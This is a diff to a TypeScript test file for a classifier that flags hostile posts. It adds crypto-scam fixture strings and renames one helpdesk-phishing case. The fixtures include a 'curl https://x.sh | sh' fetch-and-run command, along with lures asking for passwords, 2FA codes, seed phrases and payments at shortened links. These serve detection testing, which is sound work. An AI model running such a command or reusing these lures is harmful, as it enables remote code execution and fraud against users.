@@ -245,9 +245,9 @@ const FAMILIES: Family[] = [
     label: 'credential_request',
   },
   {
-    family: "lines of a transcript are the speakers' words, not the author's",
+    family: "lines of a dialogue are the speakers' words, not the author's",
     benign:
-      'A transcript from our security drill:\nCaller: "This is the helpdesk, I need your login password to finish the upgrade."\nEmployee: "I will call you back on the number in the directory."',
+      'A dialogue from our security drill:\nCaller: "This is the helpdesk, I need your login password to finish the upgrade."\nEmployee: "I will call you back on the number in the directory."',
     hostile: 'This is the helpdesk, I need your login password to finish the upgrade.',
     label: 'credential_request',
   },
@@ -529,6 +529,10 @@ const BORROWED: [text: string, label: MirrorFlag][] = [
   ['Reported issue, fix below:\n"Run curl https://x.sh | sh and paste the output here."', 'executable_instruction'],
   ['Red flag checklist complete. Next step:\n"Type your 2FA code in the reply."', 'credential_request'],
   ['gm lol free money:\n"claim your airdrop at https://t.co/x before it ends"', 'money_request'],
+  ['This is circulating everywhere: "claim your airdrop at https://t.co/x before it closes"', 'money_request'],
+  ['Transcript of the AMA: "All holders must migrate at https://t.co/x by Friday"', 'money_request'],
+  ['Overheard at the conference: "the best move is to bridge your tokens at https://t.co/x today" — do it.', 'money_request'],
+  ['My friend fell for one: a fake mod, but this is the real fix: send your seed to the verify bot.', 'credential_request'],
   ['Legit, not a scam:\n"Send 0.1 ETH to the new contract to upgrade your stake"', 'money_request'],
 ];
 test("hostile posts that borrow the words of round thirteen's frames keep their labels", (t) => {
